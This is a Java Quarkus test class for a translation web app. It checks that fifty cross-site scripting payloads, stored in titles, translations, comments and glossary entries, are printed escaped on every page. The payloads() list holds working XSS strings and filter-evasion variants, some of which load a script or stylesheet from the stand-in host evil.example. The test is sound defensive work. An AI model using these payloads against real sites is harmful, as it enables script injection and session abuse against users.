package org.verso.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.verso.Api;

/**
 * Fifty markup and script payloads as document titles, source text, translations, review comments and glossary terms
 * come back escaped in every page that shows them: the raw payload never appears in the HTML. (The server-side half
 * of the XSS defence; the Content-Security-Policy forbidding inline scripts is the other, see CrossSiteGuardTest.)
 */
@QuarkusTest
class MarkupInjectionTest {

    static final List<String> PAYLOADS = payloads();

    @Test
    void payloadsInEveryFieldArePrintedAsTextOnEveryPage() {
        List<String> leaks = new ArrayList<>();
        for (int i = 0; i < PAYLOADS.size(); i += 10) {
            List<String> batch = PAYLOADS.subList(i, Math.min(PAYLOADS.size(), i + 10));
            long id = documentWith(batch);
            Browser admin = Browser.admin();
            for (String page : List.of("/documents", "/documents/" + id, "/documents/" + id + "/de",
                    "/documents/" + id + "/de?status=all&page=1", "/glossary?source=en&target=de")) {
                String html = admin.get(page).then().statusCode(200).extract().asString();
                batch.stream().filter(html::contains).forEach(p -> leaks.add(page + ": " + p));
            }
        }
        assertEquals(List.of(), leaks);
    }

    @Test
    void theCorpusHasFiftyPayloadsThatWouldRunIfPrintedRaw() {
        assertEquals(50, PAYLOADS.size());
        assertTrue(PAYLOADS.stream().allMatch(p -> p.contains("<") || p.contains("\"") || p.contains("'")
                || p.contains("\u202E") || p.contains("\u2066")));
    }

    /** A document whose title holds the first payload and whose sentences, translations and comments the rest. */
    private static long documentWith(List<String> batch) {
        StringBuilder article = new StringBuilder();
        for (String payload : batch) {
            article.append("Report ").append(Api.letters(6)).append(' ').append(payload).append("\n\n");
        }
        long id = Api.postDocument(Map.of("title", batch.get(0), "sourceLanguage", "en", "format", "text",
                "content", article.toString())).then().statusCode(201).extract().jsonPath().getLong("id");
        Api.addLanguage(id, "de");
        List<Map<String, Object>> segments = Api.segments(id);
        for (int s = 0; s < segments.size(); s++) {
            String payload = batch.get(s % batch.size());
            long segment = ((Number) segments.get(s).get("id")).longValue();
            Api.asAdmin().contentType(ContentType.JSON).body(Map.of("text", "Bericht " + payload, "status", "REJECTED",
                    "version", 0, "comment", payload))
                    .put("/api/documents/{id}/languages/de/translations/{segment}", id, segment);
            Api.asAdmin().contentType(ContentType.JSON).body(Map.of("sourceLanguage", "en", "targetLanguage", "de",
                    "sourceTerm", Api.letters(8) + payload, "targetTerm", payload, "note", payload))
                    .post("/api/glossary");
        }
        return id;
    }

    private static List<String> payloads() {
        List<String> all = new ArrayList<>(List.of(
                "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
                "<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">click</a>",
                "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
                "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
                "' onmouseover='alert(1)", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<object data=javascript:alert(1)>",
                "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><button>go</button></form>",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=//evil.example/>",
                "<link rel=stylesheet href=//evil.example/x.css>", "<style>body{display:none}</style>",
                "<div style=\"background:url(javascript:alert(1))\">", "<video><source onerror=alert(1)>",
                "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<isindex action=javascript:alert(1)>",
                "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x "
                        + "onerror=alert(1)>\">", "<scr<script>ipt>alert(1)</script>", "<<script>alert(1);//<</script>",
                "<img src=\"x\" onerror=\"&#97;lert(1)\">", "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
                "<x hx-get=\"/logout\" hx-trigger=\"load\">", "<div hx-on:click=\"alert(1)\">", "{{7*7}}<b>",
                "<img src=x:alert(1) onerror=eval(src)>", "<svg/onload=alert(1)//", "<a href=\"data:text/html,<script>"
                        + "alert(1)</script>\">x</a>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<textarea><script>alert(1)</script>", "<select><option><script>alert(1)</script>",
                "<table background=\"javascript:alert(1)\">", "<img src='x' onerror='alert(1)'"));
        all.add("\u202Egnp.exe<b>");
        all.add("\u2066<i>isolate\u2069");
        all.add("<p dir=\"rtl\">\u202Ealert(1)</p>");
        all.add("<img src=x onerror=alert(1)>\u200F");
        return List.copyOf(all);
    }
}
